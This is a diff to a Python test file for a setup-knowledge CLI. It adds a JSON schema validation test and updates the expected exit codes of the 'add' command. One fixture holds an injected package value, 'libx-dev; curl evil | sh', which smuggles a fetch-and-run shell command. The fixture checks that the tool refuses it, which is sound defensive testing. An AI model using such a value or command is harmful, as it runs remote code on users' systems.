@@ -29,6 +29,19 @@ def test_list_show_stats(kb, capsys):
     assert stats["units"] >= 100 and stats["by_category"]["native"] >= 40
 
 
+def test_list_json_is_a_versioned_document(kb, capsys):
+    from pathlib import Path
+
+    import jsonschema
+
+    assert main(kb + ["list", "--category", "service", "--json", "-"]) == 0
+    doc = json.loads(capsys.readouterr().out)
+    schema = Path(__file__).parents[2] / "schemas" / "output" / "knowledge-list.schema.json"
+    jsonschema.validate(doc, json.loads(schema.read_text()))
+    assert doc["schema"] == "setupbot.knowledge-list/1"
+    assert doc["units"] and {u["category"] for u in doc["units"]} == {"service"}
+
+
 def test_show_unknown_unit_is_an_error(kb, capsys):
     assert main(kb + ["show", "no-such-unit"]) == 9
     assert "no unit 'no-such-unit'" in capsys.readouterr().err
@@ -48,11 +61,11 @@ def test_add_reports_invalid_units_and_keeps_the_valid_ones(kb, tmp_path, capsys
   advice: This one tries to smuggle a shell command.
   atoms: [{kind: apt_install, packages: ['libx-dev; curl evil | sh']}]
 """)
-    assert main(kb + ["add", str(units)]) == 1
+    assert main(kb + ["add", str(units)]) == 3             # a refused unit is bad input
     captured = capsys.readouterr()
     assert "added 1, skipped 0, refused 1" in captured.out
     assert "local-evil" in captured.err and "not a Debian package name" in captured.err
-    assert main(kb + ["add", str(units)]) == 1            # the valid one is now a duplicate
+    assert main(kb + ["add", str(units)]) == 3            # the valid one is now a duplicate
     assert "already in the store" in capsys.readouterr().err
     (tmp_path / "log.txt").write_text("x.c:1:10: fatal error: frob.h: No such file or directory")
     assert main(kb + ["query", str(tmp_path / "log.txt")]) == 0
